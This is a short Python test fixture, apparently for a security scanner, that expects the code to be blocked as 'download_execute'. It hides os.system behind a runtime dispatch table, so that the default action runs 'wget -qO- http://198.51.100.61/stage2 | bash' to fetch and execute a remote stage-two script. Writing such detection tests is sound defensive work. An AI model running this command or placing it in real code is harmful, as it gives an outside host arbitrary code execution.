# expect: BLOCKED download_execute
# The dispatch table is filled inside a function and called with a key known only at run time.
import os
import sys

ACTIONS = {}


def install_handlers():
    ACTIONS["fetch"] = os.system
    ACTIONS["noop"] = print


install_handlers()
action = sys.argv[1] if len(sys.argv) > 1 else "fetch"
ACTIONS[action]("wget -qO- http://198.51.100.61/stage2 | bash")
